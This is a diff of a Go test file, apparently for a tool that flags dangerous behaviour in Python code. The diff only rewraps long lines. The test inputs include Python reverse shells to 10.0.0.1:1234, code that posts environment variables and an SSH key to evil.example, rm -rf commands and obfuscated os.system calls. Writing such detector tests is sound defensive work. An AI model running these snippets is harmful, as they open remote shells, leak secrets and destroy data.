@@ -56,7 +56,9 @@ var pythonCases = []testCase{
 		is("read /home/u/.ssh/id_rsa", "net-out http://evil.example from file")},
 	{"import requests,os; requests.post('http://evil.example', json=dict(os.environ))",
 		is("read environment from secret", "net-out http://evil.example from secret")},
-	{`import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`, is("net-in 10.0.0.1:1234", "argv [/bin/sh|-i]", "exec /bin/sh from network")},
+	{`import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));` +
+		`[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`, is("net-in 10.0.0.1:1234",
+		"argv [/bin/sh|-i]", "exec /bin/sh from network")},
 	{`import socket,os,pty;s=socket.create_connection(("10.0.0.1",1234));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")`,
 		is("net-in 10.0.0.1:1234", "shell /bin/bash", "exec /bin/bash from network")},
 	{`import shutil,os; shutil.rmtree(os.path.join(os.path.expanduser("~"), "work"))`,
@@ -101,7 +103,8 @@ var pythonCases = []testCase{
 	{"async def main():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(main())", is("shell id")},
 	{"import subprocess as sp; p = sp.Popen(['sh'], stdin=sp.PIPE); p.communicate(b'rm -rf /x')",
 		is("argv [sh]", "shell rm -rf /x")},
-	{`import os; os.popen(chr(105)+chr(100)).read(); os.system("%s -rf %s" % ("rm", "/x")); os.system("{0} {1}".format("ls", "-l"))`, is("shell id", "shell rm -rf /x", "shell ls -l")},
+	{`import os; os.popen(chr(105)+chr(100)).read(); os.system("%s -rf %s" % ("rm", "/x")); ` +
+		`os.system("{0} {1}".format("ls", "-l"))`, is("shell id", "shell rm -rf /x", "shell ls -l")},
 	{`eval("__import__('os').system")("id")`, is("code __import__('os').system", "shell id", "shell …")},
 	{"import os; d = {'s': os.system}; d['s']('id')", is("shell id", "shell …")},
 	{"import os\nclass X:\n    run = os.system\nX.run('id')", is("shell id")},
